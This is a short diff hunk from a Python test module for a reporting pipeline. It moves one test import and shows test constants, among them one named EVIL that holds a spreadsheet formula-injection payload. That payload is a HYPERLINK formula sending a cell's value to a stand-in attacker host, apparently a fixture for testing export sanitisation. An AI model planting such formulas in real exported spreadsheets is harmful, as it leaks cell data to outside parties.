@@ -16,7 +16,7 @@ from pipelines.report.drift import read, write
 from pipelines.report.formatting import FORMULA_STARTS, label, money
 from pipelines.report.records import Directory, Realm, line_diff, parse_lines
 from tests.browser import chromium, needs_chromium
-from tests.transform.conftest import DemoRun
+from tests.demo_runs import DemoRun
 
 NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
